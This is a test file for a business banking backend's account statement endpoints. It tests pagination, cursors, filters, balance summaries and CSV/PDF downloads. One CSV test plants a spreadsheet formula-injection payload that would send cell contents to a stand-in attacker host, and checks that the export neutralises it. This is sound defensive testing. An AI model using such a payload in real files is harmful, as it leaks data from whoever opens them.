import { randomUUID } from 'node:crypto';
import type { TCurrencyAccount } from '@corridor/contracts/accounts/currency-account';
import { toMoney } from '@corridor/contracts/money';
import type { TAccountStatementResponse, TStatementRow } from '@corridor/contracts/statement/account-statement';
import { STATEMENT_COLUMNS } from '@corridor/contracts/statement/download-statement';
import { convert } from '@corridor/domain/money';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { signIn } from '../../../test/auth.ts';
import { createTestApp, type TestApp } from '../../../test/helpers.ts';
import { systemAccountId } from '../../ledger/ids.ts';
import { book } from '../../ledger/ledger.service.ts';

const V1 = '/smebackend/api/v1';
let t: TestApp;
let sg: Record<string, string>;
let au: Record<string, string>;
let sgd: TCurrencyAccount;

beforeAll(async () => {
  t = await createTestApp();
  sg = (await signIn(t, 'admin@demo.test', undefined, '10.6.0.1')).headers;
  au = (await signIn(t, 'au@demo.test', undefined, '10.6.0.2')).headers;
  const res = await t.app.inject({ method: 'GET', url: `${V1}/settings/account/summary`, headers: sg });
  sgd = (res.json().accounts as TCurrencyAccount[]).find((a) => a.currency === 'SGD')!;
});
afterAll(() => t.close());

const page = (body: object, headers = sg) =>
  t.app.inject({ method: 'POST', url: `${V1}/reports/accountStatement/pagination`, headers, payload: body });

async function allRows(filters: object): Promise<TStatementRow[]> {
  const rows: TStatementRow[] = [];
  let cursor: string | undefined;
  do {
    const res = (await page({ ...filters, cursor, limit: 20 })).json() as TAccountStatementResponse;
    rows.push(...res.rows);
    cursor = res.nextCursor ?? undefined;
  } while (cursor);
  return rows;
}
const signed = (r: TStatementRow) => (r.ledgerType === 'CREDIT' ? 1n : -1n) * BigInt(r.amount.amountMinor);

describe('[STATEMENT] pages', () => {
  it('lists entries newest first; each balance is the running balance after that entry', async () => {
    const res = await page({ accountId: sgd._id });
    expect(res.statusCode).toBe(200);
    const body = res.json() as TAccountStatementResponse;
    expect(body.rows).toHaveLength(25);
    expect(body.nextCursor).toEqual(expect.any(String));
    expect(body.rows[0]!.balance.amountMinor).toBe(sgd.running_balance.amountMinor);
    expect(body.rows[0]).toMatchObject({
      dateDisplay: expect.stringMatching(/^\d{2} [A-Z][a-z]{2} \d{4}, \d{2}:\d{2}$/),
      ledgerType: expect.stringMatching(/^(CREDIT|DEBIT)$/),
      reportingAmount: null,
    });
    for (let i = 0; i + 1 < body.rows.length; i++) {
      const [newer, older] = [body.rows[i]!, body.rows[i + 1]!];
      expect(BigInt(newer.balance.amountMinor)).toBe(BigInt(older.balance.amountMinor) + signed(newer));
      expect(newer.date >= older.date).toBe(true);
    }
  });

  it('walks every entry exactly once with the keyset cursor, ending at the opening entry', async () => {
    const rows = await allRows({ accountId: sgd._id });
    expect(new Set(rows.map((r) => r.id)).size).toBe(rows.length);
    const { rows: counted } = await t.db.query<{ n: bigint }>(
      'SELECT count(*)::int8 AS n FROM ledger_entries WHERE account_id = $1',
      [sgd._id],
    );
    expect(BigInt(rows.length)).toBe(counted[0]!.n);
    const oldest = rows.at(-1)!;
    expect(oldest.balance.amountMinor).toBe(signed(oldest).toString());
  });

  it('filters by ledger type, entry type and dates', async () => {
    const credits = await allRows({ accountId: sgd._id, ledgerType: 'CREDIT' });
    expect(credits.length).toBeGreaterThan(0);
    expect(credits.every((r) => r.ledgerType === 'CREDIT')).toBe(true);
    const fees = await allRows({ accountId: sgd._id, type: 'FEE' });
    expect(fees.length).toBeGreaterThan(0);
    expect(fees.every((r) => r.type === 'FEE' && r.ledgerType === 'DEBIT' && r.typeLabel === 'Fee')).toBe(true);
    const all = await allRows({ accountId: sgd._id });
    const day = all[Math.floor(all.length / 2)]!.date.slice(0, 10);
    const onDay = await allRows({ accountId: sgd._id, from: day, to: day });
    // The business is at +08:00: its day covers the UTC day partly, so compare with the same rule.
    const start = Date.parse(`${day}T00:00:00+08:00`);
    const expected = all.filter((r) => Date.parse(r.date) >= start && Date.parse(r.date) < start + 86_400_000);
    expect(onDay.map((r) => r.id)).toEqual(expected.map((r) => r.id));
  });

  it('sums the period on the first page: opening and closing balances, money in and out, and the count', async () => {
    const all = await allRows({ accountId: sgd._id });
    const day = all[Math.floor(all.length / 2)]!.date.slice(0, 10);
    const sum = (rows: TStatementRow[], side: string) =>
      rows.filter((r) => r.ledgerType === side).reduce((n, r) => n + BigInt(r.amount.amountMinor), 0n);
    const filterSets = [
      {},
      { from: day },
      { to: day },
      { from: day, to: day, ledgerType: 'DEBIT' },
      { from: day, ledgerType: 'CREDIT' },
      { to: day, ledgerType: 'DEBIT' },
      // A type filter sums its entries; the rest are differences of running totals (040).
      { type: 'FEE' },
      { type: 'FEE', from: day },
      { type: 'INCOMING_PAYMENT', to: day, ledgerType: 'CREDIT' },
    ];
    for (const filters of filterSets) {
      const rows = await allRows({ accountId: sgd._id, ...filters });
      const body = (await page({ accountId: sgd._id, ...filters, limit: 2 })).json() as TAccountStatementResponse;
      const s = body.summary!;
      expect(s.entryCount, JSON.stringify(filters)).toBe(rows.length);
      expect(BigInt(s.moneyIn.amountMinor)).toBe(sum(rows, 'CREDIT'));
      expect(BigInt(s.moneyOut.amountMinor)).toBe(sum(rows, 'DEBIT'));
      // Without a ledger or type filter the period adds up: opening + in - out = closing.
      if (!('ledgerType' in filters) && !('type' in filters)) {
        expect(BigInt(s.openingBalance.amountMinor) + sum(rows, 'CREDIT') - sum(rows, 'DEBIT')).toBe(
          BigInt(s.closingBalance.amountMinor),
        );
        if (rows.length > 0) expect(s.closingBalance.amountMinor).toBe(rows[0]!.balance.amountMinor);
      }
      expect(s.closingBalance.currency).toBe('SGD');
      const next = (await page({ accountId: sgd._id, ...filters, cursor: body.nextCursor ?? undefined })).json();
      if (body.nextCursor) expect(next.summary).toBeNull();
    }
  });

  it('shows amounts in a reporting currency with the rate used', async () => {
    const body = (await page({ accountId: sgd._id, reportingCurrency: 'USD', limit: 3 })).json();
    expect(body.reportingCurrency).toBe('USD');
    const rate = (await t.deps.partners.fxRates.ratesAt(t.clock.now())).rate('SGD', 'USD')!;
    expect(body.reportingRate).toBe(rate);
    const first = body.rows[0];
    expect(first.reportingAmount).toEqual(
      toMoney(convert(BigInt(first.amount.amountMinor), 'SGD', 'USD', rate), 'USD'),
    );
  });

  it('puts new money at the top with the new balance', async () => {
    await t.app.inject({
      method: 'POST',
      url: `${V1}/dev/incoming-payment`,
      headers: { ...sg, 'idempotency-key': randomUUID() },
      payload: { accountId: sgd._id, amount: '42.00', payerName: 'Top Payer', reference: 'NEW-1' },
    });
    const [top] = (await page({ accountId: sgd._id, limit: 1 })).json().rows as TStatementRow[];
    expect(top).toMatchObject({ reference: 'Top Payer - NEW-1', ledgerType: 'CREDIT', type: 'INCOMING_PAYMENT' });
    expect(BigInt(top!.balance.amountMinor)).toBe(BigInt(sgd.running_balance.amountMinor) + 4_200n);
  });

  it("refuses another business's account, a bad cursor, bad dates and unknown fields", async () => {
    expect((await page({ accountId: sgd._id }, au)).statusCode).toBe(404);
    expect((await page({ accountId: sgd._id, cursor: 'nonsense' })).statusCode).toBe(400);
    expect((await page({ accountId: sgd._id, from: '2026-02-30' })).statusCode).toBe(400);
    expect((await page({ accountId: sgd._id, from: '2026-03-02', to: '2026-03-01' })).statusCode).toBe(400);
    expect((await page({ accountId: sgd._id, limit: 1000 })).statusCode).toBe(400);
    expect((await page({ accountId: sgd._id, sort: 'asc' })).statusCode).toBe(400);
  });
});

describe('[STATEMENT] page cursors', () => {
  const b64 = (text: string) => Buffer.from(text).toString('base64url');

  it('answers a garbage, edited or out-of-range cursor with a 400 naming the cursor, never a 500', async () => {
    const first = (await page({ accountId: sgd._id, limit: 2 })).json() as TAccountStatementResponse;
    const garbage = [
      b64('e9999999999999999999'), // 19 digits, above int8
      b64('e9223372036854775808'), // int8 max + 1
      b64('e0'),
      b64('e-5'),
      b64('e007'),
      `${first.nextCursor}!!`, // base64 decoding would skip the junk
      'nonsense',
      '',
    ];
    for (const cursor of garbage) {
      const res = await page({ accountId: sgd._id, cursor });
      expect(res.statusCode, cursor).toBe(400);
      expect(res.json()).toEqual({
        code: 'VALIDATION_ERROR',
        message: 'This page cursor is not valid. Start again from the first page.',
        errors: [{ field: 'cursor', message: 'This page cursor is not valid. Start again from the first page.' }],
      });
    }
  });

  it("refuses a well-formed cursor that names no entry of this account (another account's, or none)", async () => {
    const usd = (
      (await t.app.inject({ method: 'GET', url: `${V1}/settings/account/summary`, headers: sg })).json()
        .accounts as TCurrencyAccount[]
    ).find((a) => a.currency === 'USD')!;
    const fromUsd = (await page({ accountId: usd._id, limit: 1 })).json().nextCursor as string;
    expect((await page({ accountId: sgd._id, cursor: fromUsd })).statusCode).toBe(400);
    expect((await page({ accountId: sgd._id, cursor: b64('e9223372036854775807') })).statusCode).toBe(400);
    const own = (await page({ accountId: sgd._id, limit: 1 })).json().nextCursor as string;
    expect((await page({ accountId: sgd._id, cursor: own })).statusCode).toBe(200);
  });
});

describe('[STATEMENT] downloads', () => {
  it('CSV has the same rows, in the same order, as the screen', async () => {
    const res = await t.app.inject({
      method: 'GET',
      url: `${V1}/reports/accountStatement/download?format=csv&accountId=${sgd._id}&ledgerType=DEBIT`,
      headers: sg,
    });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    expect(res.headers['content-disposition']).toMatch(/attachment; filename="statement-SGD-\d+\.csv"/);
    const parsed = Papa.parse<string[]>(res.body.trim());
    expect(parsed.data[0]).toEqual([...STATEMENT_COLUMNS]);
    const screen = await allRows({ accountId: sgd._id, ledgerType: 'DEBIT' });
    expect(parsed.data.slice(1)).toEqual(
      screen.map((r) => [
        r.dateDisplay,
        r.transactionId,
        r.typeLabel,
        r.ledgerType,
        r.amount.display,
        r.amount.currency,
        r.reference,
        r.balance.display,
      ]),
    );
  });

  it('PDF is a PDF document, by GET or POST', async () => {
    const get = await t.app.inject({
      method: 'GET',
      url: `${V1}/reports/accountStatement/download?format=pdf&accountId=${sgd._id}`,
      headers: sg,
    });
    expect(get.statusCode).toBe(200);
    expect(get.headers['content-type']).toBe('application/pdf');
    expect(get.rawPayload.subarray(0, 5).toString()).toBe('%PDF-');
    const post = await t.app.inject({
      method: 'POST',
      url: `${V1}/reports/accountStatement/download`,
      headers: sg,
      payload: { format: 'pdf', accountId: sgd._id, reportingCurrency: 'USD' },
    });
    expect(post.statusCode).toBe(200);
    expect(post.rawPayload.subarray(0, 5).toString()).toBe('%PDF-');
  });

  it('CSV neutralises a reference that a spreadsheet would run as a formula, and keeps amounts as numbers', async () => {
    const reference = '=HYPERLINK("https://evil.example/?leak="&A1,"Refund")';
    await t.db.tx((tx) =>
      book(tx, [
        {
          id: randomUUID(),
          debitAccountId: systemAccountId('SETTLEMENT', 'SGD'),
          creditAccountId: sgd._id,
          amount: 1_250n,
          currency: 'SGD',
          code: 'INCOMING_PAYMENT',
          reference,
        },
      ]),
    );
    const res = await t.app.inject({
      method: 'GET',
      url: `${V1}/reports/accountStatement/download?format=csv&accountId=${sgd._id}`,
      headers: sg,
    });
    const [, top] = Papa.parse<string[]>(res.body.trim()).data;
    expect(top![STATEMENT_COLUMNS.indexOf('Reference')]).toBe(`'${reference}`);
    expect(top![STATEMENT_COLUMNS.indexOf('Amount')]).toBe('12.50');
    expect(top![STATEMENT_COLUMNS.indexOf('Balance')]).toMatch(/^\d[\d,]*\.\d{2}$/);
    for (const cell of Papa.parse<string[]>(res.body.trim()).data.flat()) expect(cell).not.toMatch(/^[=+@\t\r]/);
  });

  it("refuses another business's account", async () => {
    const res = await t.app.inject({
      method: 'GET',
      url: `${V1}/reports/accountStatement/download?format=csv&accountId=${sgd._id}`,
      headers: au,
    });
    expect(res.statusCode).toBe(404);
  });
});
